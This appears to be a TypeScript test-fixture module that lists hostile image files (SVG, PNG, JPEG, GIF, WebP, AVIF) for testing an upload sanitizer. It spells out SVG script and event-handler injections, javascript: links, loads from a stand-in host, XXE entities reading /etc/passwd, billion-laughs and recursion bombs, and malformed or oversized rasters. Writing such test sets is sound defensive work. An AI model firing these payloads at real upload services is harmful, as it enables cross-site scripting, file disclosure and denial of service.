import { pngSignature } from '../clean-png.ts';
import {
  avifFile,
  animatedWebpFile,
  chunk,
  gifFile,
  jpegFile,
  pngFile,
  pngHeader,
  segment,
  svgFile,
  webpFile,
} from './image-files.ts';

type HostileFile = readonly [name: string, bytes: Buffer];

const huge = 50 * 1024 * 1024;
const html = Buffer.from('<!doctype html><script>alert(1)</script>');
const text = (content: string): Buffer => Buffer.from(content);
const square = '<rect width="9" height="9"/>';
const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Groups that each use the one before ten times. */
function bombOfUses(levels: number): string {
  const groups = Array.from(
    { length: levels },
    (_, index) => `<g id="g${String(index + 1)}">${`<use xlink:href="#g${String(index)}"/>`.repeat(10)}</g>`,
  );
  return `<g id="g0">${square}</g>${groups.join('')}`;
}

function bombOfClasses(levels: number): string {
  const rules = Array.from(
    { length: levels },
    (_, index) => `.c${String(index + 1)}{clip-path:url(#p${String(index)})}`,
  );
  const paths = Array.from(
    { length: levels },
    (_, index) =>
      `<clipPath id="p${String(index + 1)}">${`<path class="c${String(index + 1)}" d="M0 0h9v9z"/>`.repeat(10)}</clipPath>`,
  );
  return `<style>${rules.join('')}</style><clipPath id="p0">${square}</clipPath>${paths.join('')}`;
}

const scripts: readonly HostileFile[] = [
  ['script', svgFile('<script>alert(1)</script>')],
  ['script in capitals', svgFile('<SCRIPT>alert(1)</SCRIPT>')],
  [
    'script with a prefix',
    svgFile('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>'),
  ],
  ['script from elsewhere', svgFile('<script xlink:href="https://evil.example/x.js"/>')],
  ['script in CDATA', svgFile('<script><![CDATA[alert(1)]]></script>')],
  ['script in HTML', svgFile('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>')],
  ['script in a style', svgFile('<style><![CDATA[</style><script>alert(1)</script>]]></style>')],
  ['script in a title', svgFile('<title><script>alert(1)</script></title>')],
  ['script as text', svgFile('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>')],
  ['script in CDATA of a text', svgFile('<text><![CDATA[<script>alert(1)</script>]]></text>')],
  ['script in defs', svgFile('<defs><script>alert(1)</script></defs>')],
  ['script in a symbol', svgFile('<symbol id="s"><script>alert(1)</script></symbol>')],
  ['onload', svgFile('', 'onload="alert(1)"')],
  ['onload in capitals', svgFile('', 'ONLOAD="alert(1)"')],
  ['onclick', svgFile('<g onclick="alert(1)"/>')],
  ['onbegin', svgFile('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['onerror', svgFile('<image href="x" onerror="alert(1)"/>')],
  ['onfocusin', svgFile('<rect onfocusin="alert(1)" tabindex="1"/>')],
  ['onend with a prefix', svgFile('<g ev:event="click" xmlns:ev="http://www.w3.org/2001/xml-events"/>')],
  ['handler', svgFile('<handler type="application/ecmascript">alert(1)</handler>')],
  ['listener', svgFile('<listener event="click" handler="#x"/>')],
  ['animated link', svgFile('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>')],
  ['animated values', svgFile('<animate attributeName="href" values="javascript:alert(1)"/>')],
  ['animated motion', svgFile('<animateMotion path="M0 0" onend="alert(1)"/>')],
  ['link to a script', svgFile('<a xlink:href="javascript:alert(1)"><text>x</text></a>')],
  ['link to a hidden script', svgFile('<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>')],
  ['use of a script', svgFile('<use xlink:href="javascript:alert(1)"/>')],
  ['use of data', svgFile('<use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>')],
  ['use from elsewhere', svgFile('<use href="https://evil.example/x.svg#x"/>')],
  [
    'foreignObject',
    svgFile(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
    ),
  ],
  [
    'foreignObject with a frame',
    svgFile('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>'),
  ],
  ['iframe', svgFile('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>')],
  ['embed', svgFile('<embed src="https://evil.example"/>')],
  ['object', svgFile('<object data="https://evil.example"/>')],
  ['audio', svgFile('<audio src="https://evil.example" autoplay="1"/>')],
  [
    'HTML in metadata',
    svgFile(
      '<metadata><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html></metadata>',
    ),
  ],
];

const loads: readonly HostileFile[] = [
  ['picture from elsewhere', svgFile('<image xlink:href="https://evil.example/x.png"/>')],
  ['picture of a file', svgFile('<image xlink:href="file:///etc/passwd"/>')],
  ['picture in a picture', svgFile('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>')],
  ['feImage', svgFile('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>')],
  ['filter from elsewhere', svgFile('<g filter="url(https://evil.example/f.svg#f)"/>')],
  ['fill from elsewhere', svgFile('<g fill="url(https://evil.example/f.svg#f)"/>')],
  ['fill from elsewhere, quoted', svgFile(`<g fill="url('https://evil.example/f.svg#f')"/>`)],
  ['fill without a scheme', svgFile('<g fill="url(//evil.example/f.svg#f)"/>')],
  ['mask from elsewhere', svgFile('<g mask="url(https://evil.example/m.svg#m)"/>')],
  ['cursor', svgFile('<g cursor="url(https://evil.example/c.cur)"/>')],
  ['style with url', svgFile('<g style="fill:url(https://evil.example/x)"/>')],
  ['style with escaped url', svgFile(String.raw`<g style="fill:\75rl(https://evil.example/x)"/>`)],
  ['style with image-set', svgFile(`<g style="mask:image-set('https://evil.example/x' 1x)"/>`)],
  ['style with src', svgFile(`<g style="fill:src('https://evil.example/x')"/>`)],
  ['style with a comment in url', svgFile('<g style="fill:u/**/rl(https://evil.example/x)"/>')],
  ['style with a binding', svgFile('<g style="-moz-binding:url(https://evil.example/x)"/>')],
  ['style with a behavior', svgFile('<g style="behavior:url(x.htc)"/>')],
  ['style with an expression', svgFile('<g style="width:expression(alert(1))"/>')],
  ['style with a background', svgFile('<g style="background:url(https://evil.example/x)"/>')],
  ['style with a variable', svgFile('<g style="--x:url(https://evil.example/x)"/>')],
  ['import', svgFile('<style>@import "https://evil.example/x.css";</style>')],
  ['import without quotes', svgFile('<style>@import url(https://evil.example/x.css);</style>')],
  ['escaped import', svgFile(String.raw`<style>@\69mport "https://evil.example/x.css";</style>`)],
  [
    'font from elsewhere',
    svgFile('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>'),
  ],
  ['rule with url', svgFile('<style>rect{fill:url(https://evil.example/x)}</style>')],
  ['rule in a media query', svgFile('<style>@media all{rect{mask:url(https://evil.example/x)}}</style>')],
  ['selector that reads', svgFile('<style>rect[id^="a"]{fill:url(https://evil.example/a)}</style>')],
  [
    'style sheet from elsewhere',
    text(`<?xml-stylesheet href="https://evil.example/x.css"?><svg ${svg}>${square}</svg>`),
  ],
  ['transform by XSLT', text(`<?xml-stylesheet type="text/xsl" href="#x"?><svg ${svg}>${square}</svg>`)],
  [
    'link element',
    svgFile('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example"/>'),
  ],
  ['base', svgFile('', 'xml:base="https://evil.example/"')],
  ['include', svgFile('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>')],
  ['gradient from elsewhere', svgFile('<linearGradient id="g" xlink:href="https://evil.example/g.svg#g"/>')],
  ['ping', svgFile('<a href="#x" ping="https://evil.example"><text>x</text></a>')],
];

const bombs: readonly HostileFile[] = [
  ['entities', text(`<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg ${svg}><text>&a;</text></svg>`)],
  [
    'billion laughs',
    text(`<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><svg ${svg}>&b;</svg>`),
  ],
  [
    'entity of a file',
    text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${svg}><text>&x;</text></svg>`),
  ],
  [
    'parameter entity',
    text(`<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]><svg ${svg}/>`),
  ],
  ['unknown entity', svgFile('<text>&nbsp;</text>')],
  ['another document type', text(`<!DOCTYPE html><svg ${svg}>${square}</svg>`)],
  ['uses of uses', svgFile(bombOfUses(8))],
  ['clips of classes', svgFile(bombOfClasses(8))],
  ['use of itself', svgFile('<g id="a"><use xlink:href="#a"/></g>')],
  ['two uses of each other', svgFile('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  ['clip of itself', svgFile('<clipPath id="c" clip-path="url(#c)"/>')],
  ['deep nesting', svgFile(`${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}`)],
  ['many elements', svgFile('<g/>'.repeat(200_000))],
  [
    'many attributes',
    svgFile(`<g ${Array.from({ length: 50_000 }, (_, index) => `a${String(index)}=""`).join(' ')}/>`),
  ],
  [
    'long chain of uses',
    svgFile(
      Array.from(
        { length: 9000 },
        (_, index) => `<g id="n${String(index)}"><use href="#n${String(index + 1)}"/></g>`,
      ).join(''),
    ),
  ],
  [
    'heavy filter',
    svgFile(
      '<filter id="f"><feTurbulence numOctaves="9999"/><feGaussianBlur stdDeviation="9999"/></filter><g filter="url(#f)"/>',
    ),
  ],
  ['huge size', svgFile('', 'width="999999999" height="999999999"')],
  ['unclosed tag', text(`<svg ${svg}>${square}`)],
  ['unclosed comment', text(`<svg ${svg}>${square}<!-- </svg>`)],
  ['unclosed attribute', text(`<svg ${svg}><rect width="9/></svg>`)],
  ['spaces without end', text(`<svg ${' '.repeat(1_000_000)}`)],
  ['compressed SVG', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])],
  ['UTF-16', Buffer.from(`\ufeff<svg ${svg}><script>alert(1)</script></svg>`, 'utf16le')],
  ['UTF-7', text(`<?xml version="1.0" encoding="UTF-7"?><svg ${svg}>+ADw-script+AD4-</svg>`)],
  ['broken UTF-8', Buffer.concat([text(`<svg ${svg}>`), Buffer.from([0xc0, 0xbc]), text('</svg>')])],
  ['nothing to draw', text(`<svg ${svg}><script>alert(1)</script></svg>`)],
  ['zero byte', svgFile('<scr\0ipt>alert(1)</scr\0ipt>')],
];

const rasters: readonly HostileFile[] = [
  ['wide PNG', pngFile({ width: 100_000, height: 1 })],
  ['largest PNG', pngFile({ width: 0xffff_ffff, height: 0xffff_ffff })],
  ['PNG without pixels', pngFile({ width: 0 })],
  ['PNG that unpacks to more', pngFile({ content: Buffer.alloc(huge) })],
  ['PNG that unpacks to less', pngFile({ width: 4000, height: 4000 })],
  ['PNG of 16 bits and 4,000 pixels', pngFile({ width: 4000, height: 4000, depth: 16 })],
  ['PNG of an unknown color type', pngFile({ colorType: 5 })],
  ['PNG with a wrong checksum', Buffer.from(pngFile().fill(0, 29, 33))],
  ['PNG without an end', pngFile().subarray(0, -12)],
  ['PNG cut in its picture', pngFile().subarray(0, 50)],
  ['PNG of a signature', pngSignature],
  ['PNG without a picture', Buffer.concat([pngSignature, pngHeader({}), chunk('IEND', Buffer.alloc(0))])],
  ['PNG with two headers', pngFile({ before: [pngHeader({ width: 9999 })] })],
  [
    'PNG with a chunk beyond its end',
    Buffer.concat([pngFile().subarray(0, 33), Buffer.from([0xff, 0xff, 0xff, 0xff, 0x49, 0x44, 0x41, 0x54])]),
  ],
  ['PNG with HTML behind', Buffer.concat([pngFile(), html])],
  ['PNG with an archive behind', Buffer.concat([pngFile(), text('PK\u0003\u0004 evil.example')])],
  ['PNG with a text', pngFile({ before: [chunk('tEXt', text('Comment\0<script>alert(1)</script>'))] })],
  ['PNG with a packed text', pngFile({ before: [chunk('zTXt', text('x\0\0<script>'))] })],
  ['PNG with a profile', pngFile({ before: [chunk('iCCP', text('evil.example\0\0'))] })],
  ['PNG with Exif', pngFile({ before: [chunk('eXIf', text('GPS 52.5 13.4'))] })],
  ['PNG with frames', pngFile({ before: [chunk('acTL', Buffer.alloc(8, 255))] })],
  ['PNG with an unknown chunk', pngFile({ after: [chunk('evIl', text('evil.example'))] })],
  ['PNG without its palette', pngFile({ colorType: 3, content: Buffer.from([0, 1, 1, 0, 1, 1]) })],
  ['JPEG as a logo', jpegFile()],
  ['GIF', text('GIF89a<script>alert(1)</script>')],
  ['WebP', text('RIFF\0\0\0\0WEBPVP8 ')],
  ['icon', Buffer.from([0, 0, 1, 0, 1, 0, 0, 0])],
  ['HTML', html],
  ['PDF', text('%PDF-1.7 /JavaScript (alert(1))')],
  ['archive', text('PK\u0003\u0004')],
  ['nothing', Buffer.alloc(0)],
  ['50 MB of zeros', Buffer.alloc(huge)],
  ['50 MB of SVG', Buffer.from(`<svg ${svg}>${'<g/>'.repeat(huge / 4)}</svg>`)],
];

/** Files that somebody could give as a logo, in order to harm its readers or the service. */
export const hostileLogos: readonly HostileFile[] = [...scripts, ...loads, ...bombs, ...rasters];

/** The same for pictures of users. */
export const hostilePictures: readonly HostileFile[] = [
  ['wide JPEG', jpegFile(65_535, 8)],
  ['JPEG without lines', jpegFile(8, 0)],
  ['JPEG without an end', jpegFile().subarray(0, -2)],
  ['JPEG cut in a table', jpegFile().subarray(0, 30)],
  ['JPEG of a marker', Buffer.from([0xff, 0xd8])],
  ['JPEG of a start and an end', Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
  ['JPEG with two frames', jpegFile(8, 8, [segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))])],
  ['JPEG with a lossless frame', jpegFile(8, 8, [segment(0xc3, Buffer.alloc(9))])],
  ['JPEG with HTML behind', Buffer.concat([jpegFile(), html])],
  ['JPEG with a comment', jpegFile(8, 8, [segment(0xfe, text('<script>alert(1)</script>'))])],
  ['JPEG with a profile', jpegFile(8, 8, [segment(0xe2, text('ICC_PROFILE\0 evil.example'))])],
  ['JPEG with a place', jpegFile(8, 8, [segment(0xe1, text('http://ns.adobe.com/xap/1.0/\0GPS 52.5 13.4'))])],
  [
    'JPEG with many scans',
    Buffer.concat([
      jpegFile().subarray(0, -2),
      ...Array.from({ length: 2000 }, () => segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0]))),
      Buffer.from([0xff, 0xd9]),
    ]),
  ],
  ['SVG as a picture', svgFile()],
];

function changed(file: Buffer, at: number, bytes: readonly number[]): Buffer {
  const copy = Buffer.from(file);
  copy.set(bytes, at);
  return copy;
}

/** The same for pictures of texts. */
export const hostileUploads: readonly HostileFile[] = [
  ['GIF of a header', text('GIF89a')],
  ['GIF without an end', gifFile().subarray(0, -1)],
  ['GIF of huge sides', changed(gifFile(), 6, [255, 255, 255, 255])],
  ['GIF of a picture beside its screen', changed(gifFile(), 6, [1, 0, 1, 0])],
  ['GIF of many pictures', gifFile(1001)],
  ['GIF without a picture', gifFile(0)],
  ['GIF with a script behind', Buffer.concat([gifFile(), html])],
  ['GIF of a script', text('GIF89a/*<script>alert(1)</script>*/=1;')],
  ['WebP of a header', text('RIFF\0\0\0\0WEBP')],
  ['WebP that is longer than it is', changed(webpFile, 4, [255, 255, 255, 127])],
  ['WebP with a chunk beyond its end', changed(webpFile, 16, [255, 255, 255, 127])],
  ['WebP of huge sides', changed(webpFile, 24, [255, 255, 255, 255, 255, 255])],
  ['WebP of another canvas', changed(webpFile, 24, [1, 0, 0, 1, 0, 0])],
  ['animated WebP with frames beside its canvas', changed(animatedWebpFile, 24, [1, 0, 0, 1, 0, 0])],
  ['WebP with a script behind', Buffer.concat([webpFile, html])],
  ['AVIF of a header', avifFile.subarray(0, 32)],
  ['AVIF without its data', avifFile.subarray(0, 300)],
  ['AVIF of huge boxes', changed(avifFile, 32, [0, 0, 0, 1])],
  ['AVIF of an empty box', changed(avifFile, 32, [0, 0, 0, 4])],
  ['AVIF with a script behind', Buffer.concat([avifFile, html])],
  ['AVIF with a box of a script', Buffer.concat([avifFile, Buffer.from([0, 0, 0, 49]), text('uuid'), html])],
  ['HEIC', changed(avifFile, 8, [0x68, 0x65, 0x69, 0x63])],
  ['video', text('\0\0\0\u0018ftypmp42\0\0\0\0mp42isom')],
  ['SVG as a picture of a text', svgFile('<script>alert(1)</script>')],
];
